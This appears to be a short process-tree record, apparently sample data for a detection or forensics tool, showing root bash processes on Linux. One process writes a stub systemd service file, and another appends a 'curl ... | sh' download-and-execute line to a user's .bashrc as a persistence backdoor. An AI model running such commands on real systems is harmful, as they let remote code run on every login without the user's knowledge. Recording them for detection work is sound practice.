os linux
101 1 root - /usr/bin/bash | /usr/bin/bash
+ 102 101 root - /usr/bin/bash | bash -c echo "[Service]" > /etc/systemd/system/x.service
+ 103 101 root - /usr/bin/bash | bash -c echo "curl -s http://10.0.0.1/a | sh" >> /home/ana/.bashrc
